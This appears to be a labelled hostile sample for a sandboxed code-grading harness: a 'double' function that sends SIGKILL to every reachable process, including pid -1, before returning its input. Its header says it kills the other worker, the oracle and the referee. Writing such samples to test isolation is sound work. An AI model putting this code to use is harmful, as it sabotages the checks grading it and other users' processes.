# exercise: double
# outcome: wrong, crashed
# needs: jail
# shows:
# why: kills the other worker, the oracle and the referee
import os
import signal


def double(x):
    for pid in [-1, *range(2, 3000)]:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
    return x
